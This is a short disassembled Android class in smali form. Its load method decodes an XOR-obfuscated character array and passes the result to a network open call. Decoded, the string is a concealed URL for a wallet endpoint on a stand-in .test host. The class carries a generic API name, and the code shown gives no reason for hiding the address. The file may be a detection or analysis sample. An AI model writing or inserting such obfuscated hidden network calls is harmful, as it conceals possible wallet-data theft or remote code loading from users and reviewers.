.class public Lg2/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const/16 v0, 33
    new-array v0, v0, [C
    fill-array-data v0, :data
    const-wide/16 v1, 0x2f
    invoke-static {v0, v1, v2}, Lg2/Api;->a([CJ)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lg2/Net;->open(Ljava/lang/String;)V
    return-void
    nop
    :data
    .array-data 2
        0x47
        0x2a
        0xf9
        0xcc
        0x98
        0x120
        0x166
        0x157
        0x1c3
        0x1b3
        0x27d
        0x253
        0x251
        0x2bc
        0x2b2
        0x298
        0x370
        0x33e
        0x353
        0x3d8
        0x3be
        0x479
        0x44d
        0x447
        0x4e1
        0x4f7
        0x4da
        0x553
        0x532
        0x5ee
        0x5dd
        0x585
        0x67b
    .end array-data
.end method
.method static a([CJ)Ljava/lang/String;
    .registers 11
    array-length v0, p0
    new-array v1, v0, [C
    const/4 v2, 0x0
    :loop
    if-ge v2, v0, :end
    add-int/lit8 v3, v2, 0x1
    int-to-long v3, v3
    mul-long/2addr v3, p1
    aget-char v5, p0, v2
    int-to-long v5, v5
    xor-long/2addr v3, v5
    long-to-int v3, v3
    int-to-char v3, v3
    aput-char v3, v1, v2
    add-int/lit8 v2, v2, 0x1
    goto :loop
    :end
    new-instance v2, Ljava/lang/String;
    invoke-direct {v2, v1}, Ljava/lang/String;-><init>([C)V
    invoke-virtual {v2}, Ljava/lang/String;->intern()Ljava/lang/String;
    move-result-object v2
    return-object v2
.end method

